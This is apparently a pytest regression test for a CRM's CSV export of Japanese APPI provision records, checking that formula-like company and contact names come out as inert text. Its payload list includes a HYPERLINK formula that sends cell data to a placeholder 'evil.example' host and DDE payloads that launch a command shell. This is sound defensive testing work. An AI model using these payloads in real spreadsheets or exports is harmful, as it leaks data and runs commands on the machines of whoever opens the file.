"""Formula injection in the APPI provision-records CSV (issue 26 item 6).

Company and contact names are typed by users; a spreadsheet must receive
them as text, never as a formula or a DDE payload (the same neutralising
writer as the exports: crm.exports.writers).
"""

from __future__ import annotations

import pytest

from crm.exports.writers import FORMULA_PREFIXES
from tests.conftest import make_actor
from tests.crm.factories import CaseFactory, ContactFactory
from tests.crm.test_provision_records import RECEIVER, SENDER, consent, read_csv, send

NAMES = [
    '=HYPERLINK("https://evil.example/?q="&A1,"詳細")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    "url", ["/api/v1/provision-records/csv/", "/api/v1/provision-records/?format=csv"]
)
@pytest.mark.parametrize("name", NAMES)
def test_names_that_look_like_formulas_are_written_as_text(api, network, url, name):
    sender = make_actor(SENDER, "window_staff", "inject-sender")
    admin = make_actor(SENDER, "org_admin", "inject-admin")
    case = CaseFactory(
        organisation=network[SENDER],
        created_by=sender.user,
        assignee=sender.user,
        company__name=name,
    )
    contact = ContactFactory(
        company=case.company, organisation=network[SENDER], name=name
    )
    consent(case, network, RECEIVER)
    send(sender, case, network)

    response = api(admin).get(url)

    assert response.status_code == 200
    header, *rows = read_csv(response)
    row = dict(zip(header, rows[0], strict=True))
    case.company.refresh_from_db()
    contact.refresh_from_db()
    # (the model may strip a leading tab or CR; what is left must be inert)
    for column, stored in (
        ("本人（企業等）", case.company.name),
        ("提供した担当者", contact.name),
    ):
        cell = row[column]
        assert not cell.startswith(FORMULA_PREFIXES), column
        if stored.startswith(FORMULA_PREFIXES):
            assert cell == "'" + stored, column
        else:
            assert cell == stored, column
    # Ordinary cells are untouched.
    assert row["提供元"] == SENDER
